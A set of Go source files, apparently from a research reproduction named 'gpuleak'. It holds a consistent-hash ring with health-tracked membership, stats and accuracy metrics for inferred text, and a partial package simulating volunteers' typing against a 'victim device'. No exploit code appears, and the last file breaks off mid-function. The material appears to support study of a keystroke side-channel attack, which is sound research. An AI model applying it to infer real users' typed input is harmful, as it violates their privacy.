	copy(r.members[i+1:], r.members[i:])
	r.members[i] = member
	r.rebuild()
}

// Remove deletes a member (idempotent). Its arcs fall to their ring
// successors; everyone else's placement is untouched.
func (r *Ring) Remove(member string) {
	i := sort.SearchStrings(r.members, member)
	if i >= len(r.members) || r.members[i] != member {
		return
	}
	r.members = append(r.members[:i], r.members[i+1:]...)
	r.rebuild()
}

// rebuild recomputes the point list from the member set. Rebuilding from
// scratch (rather than patching) keeps the structure canonical: the ring
// is a pure function of the member set, never of the mutation order.
func (r *Ring) rebuild() {
	r.points = r.points[:0]
	for mi, m := range r.members {
		mh := hashOf(m)
		for v := 0; v < r.vnodes; v++ {
			r.points = append(r.points, point{mix(mh ^ mix(uint64(v))), mi})
		}
	}
	sort.Slice(r.points, func(i, j int) bool {
		if r.points[i].h != r.points[j].h {
			return r.points[i].h < r.points[j].h
		}
		// Hash ties (vanishingly rare) break by member index so the order
		// stays canonical.
		return r.points[i].member < r.points[j].member
	})
}

// Members returns the member set in sorted order (shared backing array:
// callers must not mutate).
func (r *Ring) Members() []string { return r.members }

// Len reports the member count.
func (r *Ring) Len() int { return len(r.members) }

// Owner maps a key to its owning member: the first virtual node at or
// clockwise after the key's hash. ok is false on an empty ring.
func (r *Ring) Owner(key string) (owner string, ok bool) {
	if len(r.points) == 0 {
		return "", false
	}
	h := hashOf(key)
	i := sort.Search(len(r.points), func(i int) bool { return r.points[i].h >= h })
	if i == len(r.points) {
		i = 0
	}
	return r.members[r.points[i].member], true
}

// Owners maps a key to its first n distinct members in ring order: the
// owner followed by the failover candidates a router tries when the owner
// is gone. Fewer than n are returned when the ring is smaller than n.
func (r *Ring) Owners(key string, n int) []string {
	if len(r.points) == 0 || n <= 0 {
		return nil
	}
	if n > len(r.members) {
		n = len(r.members)
	}
	h := hashOf(key)
	start := sort.Search(len(r.points), func(i int) bool { return r.points[i].h >= h })
	out := make([]string, 0, n)
	seen := make(map[int]bool, n)
	for i := 0; len(out) < n && i < len(r.points); i++ {
		p := r.points[(start+i)%len(r.points)]
		if seen[p.member] {
			continue
		}
		seen[p.member] = true
		out = append(out, r.members[p.member])
	}
	return out
}
