package ring

import (
	"sort"
	"sync"
)

// State is a member's health as seen by the probe loop.
type State int

const (
	// StateDown members are out of the ring: newly added (never probed
	// healthy) or past the failure threshold.
	StateDown State = iota
	// StateUp members are in the ring and receiving traffic.
	StateUp
	// StateDraining members answered a health probe with a draining
	// signal: they are out of the ring for new work but still finishing
	// in-flight streams, so the router must not kill their connections.
	StateDraining
)

// String names the state for logs and reports.
func (s State) String() string {
	switch s {
	case StateUp:
		return "up"
	case StateDraining:
		return "draining"
	default:
		return "down"
	}
}

// Membership tracks replica health from probe outcomes and keeps a
// consistent-hash ring of the up members. It is clock-free: "down" means
// DownAfter consecutive probe failures and "up again" means UpAfter
// consecutive successes, whatever cadence the caller probes at. Safe for
// concurrent use (the router's prober and request paths share it).
type Membership struct {
	mu        sync.Mutex
	ring      *Ring
	states    map[string]*memberHealth
	downAfter int
	upAfter   int
	epoch     uint64
}

// memberHealth is one member's probe bookkeeping.
type memberHealth struct {
	state     State
	failures  int // consecutive, while up
	successes int // consecutive, while down
}

// NewMembership builds an empty membership over a fresh ring. downAfter
// and upAfter are the consecutive-probe thresholds (<=0 selects 2 and 1:
// evict on the second straight failure, readmit on the first success).
func NewMembership(vnodes, downAfter, upAfter int) *Membership {
	if downAfter <= 0 {
		downAfter = 2
	}
	if upAfter <= 0 {
		upAfter = 1
	}
	return &Membership{
		ring:      New(vnodes),
		states:    map[string]*memberHealth{},
		downAfter: downAfter,
		upAfter:   upAfter,
	}
}

// Add registers a member, initially down: it joins the ring only after
// its first UpAfter healthy probes, so a misconfigured backend never
// receives a request. Idempotent.
func (m *Membership) Add(name string) {
	m.mu.Lock()
	defer m.mu.Unlock()
	if _, ok := m.states[name]; !ok {
		m.states[name] = &memberHealth{state: StateDown}
	}
}

// ReportSuccess records one healthy probe. A down member that reaches the
// UpAfter threshold rejoins the ring (reclaiming exactly its own arcs — a
// warm handoff the router pairs with model re-replication).
func (m *Membership) ReportSuccess(name string) {
	m.mu.Lock()
	defer m.mu.Unlock()
	h, ok := m.states[name]
	if !ok {
		return
	}
	switch h.state {
	case StateUp:
		h.failures = 0
	case StateDown, StateDraining:
		h.successes++
		if h.successes >= m.upAfter {
			h.state = StateUp
			h.successes, h.failures = 0, 0
			m.ring.Add(name)
			m.epoch++
		}
	}
}

// ReportFailure records one failed probe. An up (or draining) member that
// reaches the DownAfter threshold leaves the ring; its keyspace arcs fall
// to their ring successors.
func (m *Membership) ReportFailure(name string) {
	m.mu.Lock()
	defer m.mu.Unlock()
	h, ok := m.states[name]
	if !ok {
		return
	}
	switch h.state {
	case StateDown:
		h.successes = 0
	case StateUp, StateDraining:
		h.failures++
		if h.failures >= m.downAfter {
			h.state = StateDown
			h.successes, h.failures = 0, 0
			m.ring.Remove(name)
			m.epoch++
		}
	}
}

// Evict forces a member down immediately, skipping the DownAfter
// threshold: the request path observed a hard transport failure (a dead
// TCP connection is not a flaky probe), and waiting for the prober to
// catch up would lose more requests to the corpse.
func (m *Membership) Evict(name string) {
	m.mu.Lock()
	defer m.mu.Unlock()
	h, ok := m.states[name]
	if !ok || h.state == StateDown {
		return
	}
	if h.state == StateUp {
		m.ring.Remove(name)
		m.epoch++
	}
	h.state = StateDown
	h.successes, h.failures = 0, 0
}

// ReportDraining records that a probe found the member up but refusing
// new work (healthz "draining"). It leaves the ring immediately — a
// drain is a deliberate signal, not a flaky probe — but its state stays
// distinct from down so operators can tell the two apart.
func (m *Membership) ReportDraining(name string) {
	m.mu.Lock()
	defer m.mu.Unlock()
	h, ok := m.states[name]
	if !ok || h.state == StateDraining {
		return
	}
	if h.state == StateUp {
		m.ring.Remove(name)
		m.epoch++
	}
	h.state = StateDraining
	h.successes, h.failures = 0, 0
}

// State reports a member's current health.
func (m *Membership) State(name string) State {
	m.mu.Lock()
	defer m.mu.Unlock()
	if h, ok := m.states[name]; ok {
		return h.state
	}
	return StateDown
}

// Epoch counts ring mutations; a changed epoch tells cached placements
// they are stale.
func (m *Membership) Epoch() uint64 {
	m.mu.Lock()
	defer m.mu.Unlock()
	return m.epoch
}

// Owner maps a key to the up member owning it (ok false: no member up).
func (m *Membership) Owner(key string) (string, bool) {
	m.mu.Lock()
	defer m.mu.Unlock()
	return m.ring.Owner(key)
}

// Owners maps a key to its first n distinct up members in ring order.
func (m *Membership) Owners(key string, n int) []string {
	m.mu.Lock()
	defer m.mu.Unlock()
	return m.ring.Owners(key, n)
}

// Up returns the up member set in sorted order.
func (m *Membership) Up() []string {
	m.mu.Lock()
	defer m.mu.Unlock()
	out := make([]string, len(m.ring.Members()))
	copy(out, m.ring.Members())
	return out
}

// All returns every registered member with its state, sorted by name.
func (m *Membership) All() []MemberStatus {
	m.mu.Lock()
	defer m.mu.Unlock()
	out := make([]MemberStatus, 0, len(m.states))
	for name, h := range m.states {
		out = append(out, MemberStatus{Name: name, State: h.state})
	}
	sort.Slice(out, func(i, j int) bool { return out[i].Name < out[j].Name })
	return out
}

// MemberStatus pairs a member with its health state.
type MemberStatus struct {
	Name  string
	State State
}
