package ring

import (
	"fmt"
	"testing"
)

func keys(n int) []string {
	out := make([]string, n)
	for i := range out {
		out[i] = fmt.Sprintf("model/dev=Device-%d/kb=gboard/app=App%d", i, i%7)
	}
	return out
}

// TestRingDeterministic pins placement stability: two rings built from
// the same members (in different orders) agree on every key, which is
// what lets independent routers route identically.
func TestRingDeterministic(t *testing.T) {
	a, b := New(0), New(0)
	for _, m := range []string{"r1", "r2", "r3"} {
		a.Add(m)
	}
	for _, m := range []string{"r3", "r1", "r2"} {
		b.Add(m)
	}
	for _, k := range keys(500) {
		ao, _ := a.Owner(k)
		bo, _ := b.Owner(k)
		if ao != bo {
			t.Fatalf("rings disagree on %q: %q vs %q", k, ao, bo)
		}
	}
}

// TestRingMinimalMovement pins the consistent-hashing contract: adding a
// member moves keys only onto it, removing a member moves only its own
// keys, and the moved fraction is near 1/n.
func TestRingMinimalMovement(t *testing.T) {
	r := New(0)
	for i := 0; i < 9; i++ {
		r.Add(fmt.Sprintf("replica-%d", i))
	}
	ks := keys(4000)
	before := make(map[string]string, len(ks))
	for _, k := range ks {
		before[k], _ = r.Owner(k)
	}

	r.Add("replica-9")
	moved := 0
	for _, k := range ks {
		after, _ := r.Owner(k)
		if after != before[k] {
			if after != "replica-9" {
				t.Fatalf("key %q moved %q -> %q, not to the new member", k, before[k], after)
			}
			moved++
		}
	}
	// Expected share is 1/10; allow generous slack for hash variance.
	if frac := float64(moved) / float64(len(ks)); frac > 0.2 {
		t.Fatalf("adding 1 of 10 members moved %.1f%% of keys", 100*frac)
	}

	withNew := make(map[string]string, len(ks))
	for _, k := range ks {
		withNew[k], _ = r.Owner(k)
	}
	r.Remove("replica-9")
	for _, k := range ks {
		after, _ := r.Owner(k)
		if withNew[k] != "replica-9" && after != withNew[k] {
			t.Fatalf("key %q not owned by the removed member moved %q -> %q", k, withNew[k], after)
		}
		if after != before[k] {
			t.Fatalf("remove did not restore %q: %q vs original %q", k, after, before[k])
		}
	}
}

// TestRingBalance pins that virtual nodes spread the keyspace within a
// reasonable factor of even.
func TestRingBalance(t *testing.T) {
	r := New(0)
	n := 8
	for i := 0; i < n; i++ {
		r.Add(fmt.Sprintf("replica-%d", i))
	}
	counts := map[string]int{}
	ks := keys(8000)
	for _, k := range ks {
		o, ok := r.Owner(k)
		if !ok {
			t.Fatal("owner lookup failed on populated ring")
		}
		counts[o]++
	}
	even := float64(len(ks)) / float64(n)
	for m, c := range counts {
		if f := float64(c) / even; f < 0.5 || f > 2 {
			t.Fatalf("member %s holds %d keys (%.2fx even); distribution %v", m, c, f, counts)
		}
	}
}

// TestRingOwners pins the failover list: distinct members, owner first,
// truncated to the ring size.
func TestRingOwners(t *testing.T) {
	r := New(0)
	if got := r.Owners("k", 2); got != nil {
		t.Fatalf("empty ring Owners = %v", got)
	}
	if _, ok := r.Owner("k"); ok {
		t.Fatal("empty ring reported an owner")
	}
	for i := 0; i < 3; i++ {
		r.Add(fmt.Sprintf("replica-%d", i))
	}
	for _, k := range keys(100) {
		owners := r.Owners(k, 5)
		if len(owners) != 3 {
			t.Fatalf("Owners(%q, 5) = %v, want all 3 members", k, owners)
		}
		first, _ := r.Owner(k)
		if owners[0] != first {
			t.Fatalf("Owners[0] %q != Owner %q", owners[0], first)
		}
		seen := map[string]bool{}
		for _, o := range owners {
			if seen[o] {
				t.Fatalf("Owners(%q) repeats %q: %v", k, o, owners)
			}
			seen[o] = true
		}
	}
}

// TestMembershipThresholds pins the probe state machine: a member joins
// only after upAfter straight successes, leaves after downAfter straight
// failures, and interleaved outcomes reset the counters.
func TestMembershipThresholds(t *testing.T) {
	ms := NewMembership(0, 2, 2)
	ms.Add("r1")
	if got := ms.State("r1"); got != StateDown {
		t.Fatalf("fresh member state %v, want down", got)
	}
	if _, ok := ms.Owner("k"); ok {
		t.Fatal("down member received ownership")
	}

	ms.ReportSuccess("r1")
	if got := ms.State("r1"); got != StateDown {
		t.Fatalf("one success flipped state to %v", got)
	}
	ms.ReportFailure("r1") // resets the success streak
	ms.ReportSuccess("r1")
	ms.ReportSuccess("r1")
	if got := ms.State("r1"); got != StateUp {
		t.Fatalf("two straight successes left state %v", got)
	}
	if o, ok := ms.Owner("k"); !ok || o != "r1" {
		t.Fatalf("Owner = %q/%v after up", o, ok)
	}

	ms.ReportFailure("r1")
	ms.ReportSuccess("r1") // resets the failure streak
	ms.ReportFailure("r1")
	if got := ms.State("r1"); got != StateUp {
		t.Fatalf("interleaved failures flipped state to %v", got)
	}
	ms.ReportFailure("r1")
	if got := ms.State("r1"); got != StateDown {
		t.Fatalf("two straight failures left state %v", got)
	}
	if _, ok := ms.Owner("k"); ok {
		t.Fatal("down member still owns keys")
	}

	// Unknown members are ignored, not invented.
	ms.ReportSuccess("ghost")
	ms.ReportFailure("ghost")
	if got := ms.State("ghost"); got != StateDown {
		t.Fatalf("ghost state %v", got)
	}
}

// TestMembershipDraining pins the drain path: a draining member leaves
// the ring immediately, is reported distinctly from down, and rejoins
// after enough healthy probes (restart finished).
func TestMembershipDraining(t *testing.T) {
	ms := NewMembership(0, 2, 1)
	for _, n := range []string{"r1", "r2"} {
		ms.Add(n)
		ms.ReportSuccess(n)
	}
	if up := ms.Up(); len(up) != 2 {
		t.Fatalf("up set %v, want 2 members", up)
	}

	ms.ReportDraining("r1")
	if got := ms.State("r1"); got != StateDraining {
		t.Fatalf("state %v, want draining", got)
	}
	if up := ms.Up(); len(up) != 1 || up[0] != "r2" {
		t.Fatalf("up set %v after drain, want [r2]", up)
	}
	epoch := ms.Epoch()
	ms.ReportDraining("r1") // idempotent
	if ms.Epoch() != epoch {
		t.Fatal("repeated drain report mutated the ring")
	}
	for _, k := range keys(100) {
		if o, ok := ms.Owner(k); !ok || o != "r2" {
			t.Fatalf("draining member still routed: Owner(%q) = %q/%v", k, o, ok)
		}
	}

	// The drained replica restarts and probes healthy again.
	ms.ReportSuccess("r1")
	if got := ms.State("r1"); got != StateUp {
		t.Fatalf("state %v after recovery, want up", got)
	}
	if up := ms.Up(); len(up) != 2 {
		t.Fatalf("up set %v after recovery", up)
	}

	all := ms.All()
	if len(all) != 2 || all[0].Name != "r1" || all[0].State != StateUp {
		t.Fatalf("All() = %v", all)
	}
	if StateUp.String() != "up" || StateDown.String() != "down" || StateDraining.String() != "draining" {
		t.Fatal("state names drifted")
	}
}
