// Package stats provides the statistical utilities the experiments use:
// summary statistics, histograms, confusion matrices, Levenshtein
// distance, and the text/character accuracy metrics of §7.
package stats

import (
	"fmt"
	"math"
	"sort"
	"strings"
)

// Mean returns the arithmetic mean (0 for empty input).
func Mean(xs []float64) float64 {
	if len(xs) == 0 {
		return 0
	}
	var sum float64
	for _, x := range xs {
		sum += x
	}
	return sum / float64(len(xs))
}

// Std returns the population standard deviation.
func Std(xs []float64) float64 {
	if len(xs) == 0 {
		return 0
	}
	m := Mean(xs)
	var ss float64
	for _, x := range xs {
		d := x - m
		ss += d * d
	}
	return math.Sqrt(ss / float64(len(xs)))
}

// Percentile returns the p-th percentile (p in [0,100]) using linear
// interpolation between order statistics.
func Percentile(xs []float64, p float64) float64 {
	if len(xs) == 0 {
		return 0
	}
	s := append([]float64(nil), xs...)
	sort.Float64s(s)
	if p <= 0 {
		return s[0]
	}
	if p >= 100 {
		return s[len(s)-1]
	}
	pos := p / 100 * float64(len(s)-1)
	lo := int(pos)
	frac := pos - float64(lo)
	if lo+1 >= len(s) {
		return s[lo]
	}
	return s[lo]*(1-frac) + s[lo+1]*frac
}

// Histogram bins values into n equal-width buckets over [min, max].
type Histogram struct {
	Min, Max float64
	Counts   []int
	Total    int
}

// NewHistogram builds a histogram of xs with n buckets spanning [min, max].
// Values outside the range clamp to the edge buckets.
func NewHistogram(xs []float64, n int, min, max float64) *Histogram {
	h := &Histogram{Min: min, Max: max, Counts: make([]int, n)}
	if max <= min || n <= 0 {
		return h
	}
	w := (max - min) / float64(n)
	for _, x := range xs {
		i := int((x - min) / w)
		if i < 0 {
			i = 0
		}
		if i >= n {
			i = n - 1
		}
		h.Counts[i]++
		h.Total++
	}
	return h
}

// FractionBelow returns the fraction of samples in buckets entirely below x.
func (h *Histogram) FractionBelow(x float64) float64 {
	if h.Total == 0 {
		return 0
	}
	w := (h.Max - h.Min) / float64(len(h.Counts))
	n := 0
	for i, c := range h.Counts {
		hi := h.Min + float64(i+1)*w
		if hi <= x {
			n += c
		}
	}
	return float64(n) / float64(h.Total)
}

// Levenshtein returns the edit distance between two rune strings.
func Levenshtein(a, b string) int {
	ra, rb := []rune(a), []rune(b)
	if len(ra) == 0 {
		return len(rb)
	}
	if len(rb) == 0 {
		return len(ra)
	}
	prev := make([]int, len(rb)+1)
	cur := make([]int, len(rb)+1)
	for j := range prev {
		prev[j] = j
	}
	for i := 1; i <= len(ra); i++ {
		cur[0] = i
		for j := 1; j <= len(rb); j++ {
			cost := 1
			if ra[i-1] == rb[j-1] {
				cost = 0
			}
			cur[j] = min3(cur[j-1]+1, prev[j]+1, prev[j-1]+cost)
		}
		prev, cur = cur, prev
	}
	return prev[len(rb)]
}

func min3(a, b, c int) int {
	if b < a {
		a = b
	}
	if c < a {
		a = c
	}
	return a
}

// TextAccuracy is the §7.1 "text input accuracy": the fraction of inputs
// inferred exactly (whole string correct).
func TextAccuracy(inferred, truth []string) float64 {
	if len(truth) == 0 {
		return 0
	}
	n := 0
	for i := range truth {
		if i < len(inferred) && inferred[i] == truth[i] {
			n++
		}
	}
	return float64(n) / float64(len(truth))
}

// CharAccuracy is the §7.1 "individual key press accuracy": 1 minus the
// normalized edit distance, aggregated over all pairs.
func CharAccuracy(inferred, truth []string) float64 {
	var errs, total int
	for i := range truth {
		inf := ""
		if i < len(inferred) {
			inf = inferred[i]
		}
		errs += Levenshtein(inf, truth[i])
		total += len([]rune(truth[i]))
	}
	if total == 0 {
		return 0
	}
	acc := 1 - float64(errs)/float64(total)
	if acc < 0 {
		return 0
	}
	return acc
}

// MeanErrors returns the average edit distance per pair (Figure 17b).
func MeanErrors(inferred, truth []string) float64 {
	if len(truth) == 0 {
		return 0
	}
	var errs int
	for i := range truth {
		inf := ""
		if i < len(inferred) {
			inf = inferred[i]
		}
		errs += Levenshtein(inf, truth[i])
	}
	return float64(errs) / float64(len(truth))
}

// Confusion is a label confusion matrix over runes.
type Confusion struct {
	counts map[[2]rune]int
	total  map[rune]int
}

// NewConfusion returns an empty confusion matrix.
func NewConfusion() *Confusion {
	return &Confusion{counts: map[[2]rune]int{}, total: map[rune]int{}}
}

// Add records one (truth, predicted) pair.
func (c *Confusion) Add(truth, pred rune) {
	c.counts[[2]rune{truth, pred}]++
	c.total[truth]++
}

// Accuracy returns the per-rune accuracy, or 1 if the rune was never seen.
func (c *Confusion) Accuracy(truth rune) float64 {
	t := c.total[truth]
	if t == 0 {
		return 1
	}
	return float64(c.counts[[2]rune{truth, truth}]) / float64(t)
}

// Overall returns the trace-wide accuracy.
func (c *Confusion) Overall() float64 {
	var hit, total int
	for r, t := range c.total {
		hit += c.counts[[2]rune{r, r}]
		total += t
	}
	if total == 0 {
		return 1
	}
	return float64(hit) / float64(total)
}

// Seen lists the truth runes observed, sorted.
func (c *Confusion) Seen() []rune {
	out := make([]rune, 0, len(c.total))
	for r := range c.total {
		out = append(out, r)
	}
	sort.Slice(out, func(i, j int) bool { return out[i] < out[j] })
	return out
}

// CharGroup classifies characters as the Figure 17(c)/21(c) groups.
func CharGroup(r rune) string {
	switch {
	case r >= 'a' && r <= 'z':
		return "lower"
	case r >= 'A' && r <= 'Z':
		return "upper"
	case r >= '0' && r <= '9':
		return "number"
	default:
		return "symbol"
	}
}

// Table is a printable experiment result: a header row plus data rows.
type Table struct {
	Title  string
	Header []string
	Rows   [][]string
}

// AddRow appends a formatted row.
func (t *Table) AddRow(cells ...string) { t.Rows = append(t.Rows, cells) }

// Fmt formats a float at sensible precision for table cells.
func Fmt(v float64) string { return fmt.Sprintf("%.3f", v) }

// Pct formats a ratio as a percentage.
func Pct(v float64) string { return fmt.Sprintf("%.1f%%", 100*v) }

// String renders the table with aligned columns.
func (t *Table) String() string {
	var b strings.Builder
	if t.Title != "" {
		fmt.Fprintf(&b, "== %s ==\n", t.Title)
	}
	widths := make([]int, len(t.Header))
	for i, h := range t.Header {
		widths[i] = len(h)
	}
	for _, row := range t.Rows {
		for i, c := range row {
			if i < len(widths) && len(c) > widths[i] {
				widths[i] = len(c)
			}
		}
	}
	writeRow := func(cells []string) {
		for i, c := range cells {
			if i > 0 {
				b.WriteString("  ")
			}
			b.WriteString(c)
			if i < len(widths) {
				for p := len(c); p < widths[i]; p++ {
					b.WriteByte(' ')
				}
			}
		}
		b.WriteByte('\n')
	}
	writeRow(t.Header)
	writeRow(sepRow(widths))
	for _, row := range t.Rows {
		writeRow(row)
	}
	return b.String()
}

// Markdown renders the table as a GitHub-flavored markdown table.
func (t *Table) Markdown() string {
	var b strings.Builder
	if t.Title != "" {
		fmt.Fprintf(&b, "### %s\n\n", t.Title)
	}
	writeRow := func(cells []string) {
		b.WriteString("|")
		for _, c := range cells {
			b.WriteString(" ")
			b.WriteString(strings.ReplaceAll(c, "|", "\\|"))
			b.WriteString(" |")
		}
		b.WriteString("\n")
	}
	writeRow(t.Header)
	sep := make([]string, len(t.Header))
	for i := range sep {
		sep[i] = "---"
	}
	writeRow(sep)
	for _, row := range t.Rows {
		writeRow(row)
	}
	return b.String()
}

func sepRow(widths []int) []string {
	out := make([]string, len(widths))
	for i, w := range widths {
		out[i] = strings.Repeat("-", w)
	}
	return out
}
