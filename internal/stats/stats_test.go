package stats

import (
	"math"
	"strings"
	"testing"
	"testing/quick"
)

func TestMeanStd(t *testing.T) {
	xs := []float64{2, 4, 4, 4, 5, 5, 7, 9}
	if m := Mean(xs); m != 5 {
		t.Fatalf("mean = %v", m)
	}
	if s := Std(xs); math.Abs(s-2) > 1e-9 {
		t.Fatalf("std = %v", s)
	}
	if Mean(nil) != 0 || Std(nil) != 0 {
		t.Fatal("empty input not zero")
	}
}

func TestPercentile(t *testing.T) {
	xs := []float64{1, 2, 3, 4, 5}
	cases := []struct{ p, want float64 }{
		{0, 1}, {50, 3}, {100, 5}, {25, 2},
	}
	for _, c := range cases {
		if got := Percentile(xs, c.p); math.Abs(got-c.want) > 1e-9 {
			t.Errorf("P%v = %v, want %v", c.p, got, c.want)
		}
	}
	if Percentile(nil, 50) != 0 {
		t.Fatal("empty percentile")
	}
}

func TestHistogram(t *testing.T) {
	h := NewHistogram([]float64{0.05, 0.05, 0.15, 0.95, -1, 2}, 10, 0, 1)
	if h.Total != 6 {
		t.Fatalf("total = %d", h.Total)
	}
	if h.Counts[0] != 3 { // two 0.05s plus clamped -1
		t.Fatalf("bucket 0 = %d", h.Counts[0])
	}
	if h.Counts[9] != 2 { // 0.95 plus clamped 2
		t.Fatalf("bucket 9 = %d", h.Counts[9])
	}
	if f := h.FractionBelow(0.2); math.Abs(f-4.0/6) > 1e-9 {
		t.Fatalf("FractionBelow(0.2) = %v", f)
	}
}

func TestLevenshtein(t *testing.T) {
	cases := []struct {
		a, b string
		want int
	}{
		{"", "", 0},
		{"abc", "abc", 0},
		{"abc", "abd", 1},
		{"abc", "ab", 1},
		{"abc", "xabc", 1},
		{"kitten", "sitting", 3},
		{"", "abc", 3},
	}
	for _, c := range cases {
		if got := Levenshtein(c.a, c.b); got != c.want {
			t.Errorf("Levenshtein(%q,%q) = %d, want %d", c.a, c.b, got, c.want)
		}
	}
}

// Property: Levenshtein is a metric (symmetry, identity, triangle).
func TestLevenshteinMetric(t *testing.T) {
	f := func(a, b, c string) bool {
		if len(a) > 12 {
			a = a[:12]
		}
		if len(b) > 12 {
			b = b[:12]
		}
		if len(c) > 12 {
			c = c[:12]
		}
		ab := Levenshtein(a, b)
		ba := Levenshtein(b, a)
		if ab != ba {
			return false
		}
		if Levenshtein(a, a) != 0 {
			return false
		}
		return Levenshtein(a, c) <= ab+Levenshtein(b, c)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 100}); err != nil {
		t.Fatal(err)
	}
}

func TestAccuracies(t *testing.T) {
	truth := []string{"abcd", "efgh", "ijkl"}
	inferred := []string{"abcd", "efgx", "ijkl"}
	if got := TextAccuracy(inferred, truth); math.Abs(got-2.0/3) > 1e-9 {
		t.Fatalf("text accuracy = %v", got)
	}
	if got := CharAccuracy(inferred, truth); math.Abs(got-11.0/12) > 1e-9 {
		t.Fatalf("char accuracy = %v", got)
	}
	if got := MeanErrors(inferred, truth); math.Abs(got-1.0/3) > 1e-9 {
		t.Fatalf("mean errors = %v", got)
	}
}

func TestAccuracyMissingInference(t *testing.T) {
	truth := []string{"abcd"}
	if got := TextAccuracy(nil, truth); got != 0 {
		t.Fatalf("text accuracy = %v", got)
	}
	if got := CharAccuracy(nil, truth); got != 0 {
		t.Fatalf("char accuracy = %v", got)
	}
}

func TestConfusion(t *testing.T) {
	c := NewConfusion()
	c.Add('a', 'a')
	c.Add('a', 'a')
	c.Add('a', 'b')
	c.Add('b', 'b')
	if got := c.Accuracy('a'); math.Abs(got-2.0/3) > 1e-9 {
		t.Fatalf("accuracy(a) = %v", got)
	}
	if got := c.Accuracy('z'); got != 1 {
		t.Fatalf("unseen accuracy = %v", got)
	}
	if got := c.Overall(); math.Abs(got-0.75) > 1e-9 {
		t.Fatalf("overall = %v", got)
	}
	seen := c.Seen()
	if len(seen) != 2 || seen[0] != 'a' || seen[1] != 'b' {
		t.Fatalf("seen = %v", seen)
	}
}

func TestCharGroup(t *testing.T) {
	cases := map[rune]string{'a': "lower", 'Z': "upper", '7': "number", '.': "symbol", '@': "symbol"}
	for r, want := range cases {
		if got := CharGroup(r); got != want {
			t.Errorf("CharGroup(%q) = %s", r, got)
		}
	}
}

func TestTableRendering(t *testing.T) {
	tab := Table{Title: "demo", Header: []string{"name", "value"}}
	tab.AddRow("alpha", Pct(0.813))
	tab.AddRow("b", Fmt(1.5))
	s := tab.String()
	if !strings.Contains(s, "demo") || !strings.Contains(s, "81.3%") || !strings.Contains(s, "1.500") {
		t.Fatalf("table render:\n%s", s)
	}
	lines := strings.Split(strings.TrimSpace(s), "\n")
	if len(lines) != 5 { // title, header, separator, 2 rows
		t.Fatalf("line count = %d:\n%s", len(lines), s)
	}
}

func TestTableMarkdown(t *testing.T) {
	tab := Table{Title: "demo", Header: []string{"a", "b"}}
	tab.AddRow("x|y", "1")
	md := tab.Markdown()
	if !strings.Contains(md, "### demo") || !strings.Contains(md, "| --- | --- |") {
		t.Fatalf("markdown:\n%s", md)
	}
	if !strings.Contains(md, `x\|y`) {
		t.Fatal("pipe not escaped")
	}
}
