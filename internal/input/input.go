// Package input models the human side of the experiments: the five
// student volunteers' key press durations and inter-key intervals
// (Figure 16), typing speed classes (§7.2), and the input scripts the bot
// program replays against the victim device (offline collection, accuracy
// runs, and the practical sessions of §8).
package input

import (
	"math"

	"gpuleak/internal/sim"
)

// Volunteer is one §7 participant's typing-timing profile. Press durations
// and inter-key intervals are log-normally distributed, the standard model
// for human keystroke dynamics.
type Volunteer struct {
	Name string
	// Median press duration and its log-space spread.
	DurMedian sim.Time
	DurSigma  float64
	// Median press-to-press interval and its log-space spread.
	IntMedian sim.Time
	IntSigma  float64
}

// Volunteers are the five profiles; medians and spreads are chosen to
// reproduce the heterogeneity visible in Figure 16 (durations roughly
// 50-200 ms, intervals roughly 0.1-0.7 s).
var Volunteers = []Volunteer{
	{Name: "volunteer-1", DurMedian: 90 * sim.Millisecond, DurSigma: 0.25, IntMedian: 220 * sim.Millisecond, IntSigma: 0.35},
	{Name: "volunteer-2", DurMedian: 70 * sim.Millisecond, DurSigma: 0.20, IntMedian: 300 * sim.Millisecond, IntSigma: 0.30},
	{Name: "volunteer-3", DurMedian: 110 * sim.Millisecond, DurSigma: 0.30, IntMedian: 420 * sim.Millisecond, IntSigma: 0.40},
	{Name: "volunteer-4", DurMedian: 60 * sim.Millisecond, DurSigma: 0.18, IntMedian: 180 * sim.Millisecond, IntSigma: 0.25},
	{Name: "volunteer-5", DurMedian: 95 * sim.Millisecond, DurSigma: 0.28, IntMedian: 520 * sim.Millisecond, IntSigma: 0.45},
}

// SampleDuration draws one key press duration, clamped to human limits.
func (v Volunteer) SampleDuration(r *sim.Rand) sim.Time {
	d := sim.Time(r.LogNormal(math.Log(float64(v.DurMedian)), v.DurSigma))
	return clamp(d, 40*sim.Millisecond, 250*sim.Millisecond)
}

// SampleInterval draws one press-to-press interval, clamped to the minimum
// credible repeat rate (75 ms, the paper's Ti) and a 1.5 s maximum.
func (v Volunteer) SampleInterval(r *sim.Rand) sim.Time {
	d := sim.Time(r.LogNormal(math.Log(float64(v.IntMedian)), v.IntSigma))
	return clamp(d, 80*sim.Millisecond, 1500*sim.Millisecond)
}

func clamp(t, lo, hi sim.Time) sim.Time {
	if t < lo {
		return lo
	}
	if t > hi {
		return hi
	}
	return t
}

// Speed partitions intervals as in §7.2.
type Speed int

// Speed classes: fast (<0.24 s), medium (0.24-0.4 s), slow (>0.4 s), or
// unconstrained.
const (
	SpeedAny Speed = iota
	SpeedFast
	SpeedMedium
	SpeedSlow
)

func (s Speed) String() string {
	switch s {
	case SpeedFast:
		return "fast"
	case SpeedMedium:
		return "medium"
	case SpeedSlow:
		return "slow"
	default:
		return "any"
	}
}

// Matches reports whether an interval belongs to the speed class.
func (s Speed) Matches(t sim.Time) bool {
	switch s {
	case SpeedFast:
		return t < 240*sim.Millisecond
	case SpeedMedium:
		return t >= 240*sim.Millisecond && t <= 400*sim.Millisecond
	case SpeedSlow:
		return t > 400*sim.Millisecond
	default:
		return true
	}
}

// SampleIntervalWithSpeed rejection-samples an interval in the class.
func (v Volunteer) SampleIntervalWithSpeed(r *sim.Rand, s Speed) sim.Time {
	for i := 0; i < 256; i++ {
		t := v.SampleInterval(r)
		if s.Matches(t) {
			return t
		}
	}
	// Volunteer distribution barely reaches the class; take the boundary.
	switch s {
	case SpeedFast:
		return 180 * sim.Millisecond
	case SpeedMedium:
		return 320 * sim.Millisecond
	default:
		return 520 * sim.Millisecond
	}
}

// EventKind classifies script events.
type EventKind int

// Script event kinds.
const (
	EvPress      EventKind = iota // type one character (popup + echo)
	EvBackspace                   // delete one character (echo only)
	EvSwitchAway                  // leave the target app
	EvSwitchBack                  // return to the target app
	EvNotifView                   // pull down / glance at the notification bar
)

func (k EventKind) String() string {
	switch k {
	case EvPress:
		return "press"
	case EvBackspace:
		return "backspace"
	case EvSwitchAway:
		return "switch-away"
	case EvSwitchBack:
		return "switch-back"
	case EvNotifView:
		return "notif-view"
	default:
